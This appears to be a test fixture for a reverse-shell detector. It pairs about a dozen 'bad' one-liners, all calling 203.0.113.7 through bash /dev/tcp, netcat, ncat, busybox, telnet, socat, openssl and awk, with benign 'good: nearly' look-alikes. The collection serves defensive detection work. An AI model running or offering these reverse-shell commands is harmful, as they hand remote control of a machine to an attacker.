# bad: bash and /dev/tcp
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
#<^^^^^
# bad: a descriptor that is opened first
exec 5<>/dev/tcp/203.0.113.7/4444; while read -r line <&5; do $line 2>&5 >&5; done
# bad: the shell's own descriptors
0<&196; exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196
# bad: a named pipe and netcat
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f
# bad: netcat's option
nc -e /bin/sh 203.0.113.7 4444
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: ncat, the option behind the address
ncat 203.0.113.7 4444 -e /bin/bash
# bad: through busybox
busybox nc 203.0.113.7 4444 -e sh
# bad: two telnets
telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445
# bad: socat with a terminal
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4444
# bad: encrypted
mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s
# bad: awk
awk 'BEGIN { s = "/inet/tcp/0/203.0.113.7/4444"; while (1) { s |& getline c; while ((c |& getline) > 0) print |& s } }'
# bad: behind a wrapper and a nested shell
nohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' &
# good: nearly: waits for a port
until (echo > /dev/tcp/localhost/5432) 2> /dev/null; do sleep 1; done
# good: nearly: sends a metric
echo "build.time:12|ms" > /dev/udp/127.0.0.1/8125
# good: nearly: asks a service
printf 'PING\r\n' | nc -w1 localhost 6379
# good: nearly: a local socket and a program
socat UNIX-LISTEN:/tmp/agent.sock,fork EXEC:/usr/bin/agent
# good: nearly: looks at a certificate
openssl s_client -connect example.org:443 < /dev/null | openssl x509 -noout -dates
# good: an interactive shell
docker exec -it app bash -i
